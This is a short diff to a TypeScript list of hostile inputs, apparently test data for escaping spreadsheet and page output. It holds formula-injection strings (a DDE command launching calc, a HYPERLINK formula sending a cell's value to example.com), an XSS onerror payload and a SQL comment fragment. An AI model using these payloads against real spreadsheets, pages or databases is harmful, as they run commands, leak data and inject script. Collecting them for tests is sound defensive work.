@@ -10,7 +10,7 @@ import { permitted } from './ledger.ts'
 
 /** What somebody could write so that a sheet or a page would run it. */
 export const hostile = [
-  '=cmd|\' /C calc\'!A0',
+  "=cmd|' /C calc'!A0",
   '=HYPERLINK("https://example.com/?"&A1,"開く")',
   '+81-3-3993-1111',
   '-1+1',
@@ -21,7 +21,6 @@ export const hostile = [
   '"><img src=x onerror=alert(1)>',
   "';--",
   '改行の\n=1+1',
-  '\u202eへんな向き',
 ]
 
 const item = (id: string, result: string, note?: string): object => ({ id, result, ...(note && { note }) })
